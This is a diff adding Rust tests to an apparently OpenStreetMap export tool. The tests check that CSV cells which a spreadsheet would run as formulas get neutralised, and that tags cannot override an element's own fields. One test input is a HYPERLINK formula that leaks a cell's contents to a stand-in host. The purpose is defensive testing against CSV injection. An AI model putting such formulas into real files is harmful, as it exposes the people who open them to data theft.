@@ -141,6 +141,37 @@ fn csv_quotes_what_needs_quoting() {
     assert_eq!(csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),cafe,,1\r\n");
 }
 
+/// Tag values are written by anyone (OWASP "CSV Injection", CWE-1236): a cell a spreadsheet
+/// would run as a formula gets a `'` in front and quotes; numbers stay numbers.
+#[test]
+fn csv_cells_never_read_as_formulas() {
+    let tags = [("a", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"), ("b", "+SUM(1,2)"), ("c", "@SUM(1,1)"), ("d", "-1"), ("e", "-3.5"), ("f", "-x"), ("g", "\tcmd"), ("h", "\u{FF1D}1+1"), ("i", "1e-3"), ("j", "+"), ("=k", "v")];
+    let m = Match { element: ElementType::Node, id: 7, lat: 1.5, lon: 2.0, tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
+    let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,a,b,c,d,e,f,g,h,i,j,\"'=k\"\r\n");
+    assert_eq!(
+        csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys),
+        "node,7,1.5000000,2.0000000,POINT (2 1.5),\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"open\"\")\",\"'+SUM(1,2)\",\"'@SUM(1,1)\",-1,-3.5,\"'-x\",\"'\tcmd\",\"'\u{FF1D}1+1\",1e-3,\"'+\",v\r\n"
+    );
+}
+
+/// A tag named like an element's own field keeps its value under `tag:` + its key, in both
+/// formats; the element's own fields stay its own.
+#[test]
+fn tags_never_take_an_elements_own_fields() {
+    let tags = [("osm_id", "1"), ("osm_type", "relation"), ("tag:osm_id", "2"), ("lat", "x"), ("name", "n"), ("tag:name", "t")];
+    let m = Match { element: ElementType::Way, id: 9, lat: 1.5, lon: 2.0, tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None };
+    let feature: serde_json::Value = serde_json::from_str(&feature(&m, &Shape::Point([15_000_000, 20_000_000]))).unwrap();
+    let p = &feature["properties"];
+    assert_eq!((&p["osm_id"], &p["osm_type"]), (&serde_json::json!(9), &serde_json::json!("way")));
+    assert_eq!((&p["tag:osm_id"], &p["tag:osm_type"], &p["tag:tag:osm_id"], &p["tag:lat"]), (&serde_json::json!("1"), &serde_json::json!("relation"), &serde_json::json!("2"), &serde_json::json!("x")));
+    assert_eq!((&p["name"], &p["tag:name"]), (&serde_json::json!("n"), &serde_json::json!("t")));
+    assert_eq!(p.as_object().unwrap().len(), 2 + tags.len());
+    let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
+    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,tag:osm_id,tag:osm_type,tag:tag:osm_id,tag:lat,name,tag:name\r\n");
+    assert_eq!(csv_row(&m, &Shape::Point([15_000_000, 20_000_000]), &keys), "way,9,1.5000000,2.0000000,POINT (2 1.5),1,relation,2,x,n,t\r\n");
+}
+
 #[test]
 fn changes_are_drained_once_and_rows_are_sorted_by_label() {
     let mut a = Assembler::new(everywhere(), 100);
